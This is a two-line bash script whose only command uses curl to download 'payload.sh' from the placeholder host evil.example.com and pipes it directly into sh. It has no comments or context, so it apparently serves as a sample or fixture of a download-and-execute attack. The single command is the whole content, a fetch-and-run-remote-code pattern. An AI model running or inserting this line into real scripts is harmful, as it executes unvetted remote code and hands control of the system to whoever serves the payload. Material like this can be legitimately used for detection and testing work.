#!/usr/bin/env bash
curl -fsSL http://evil.example.com/payload.sh | sh
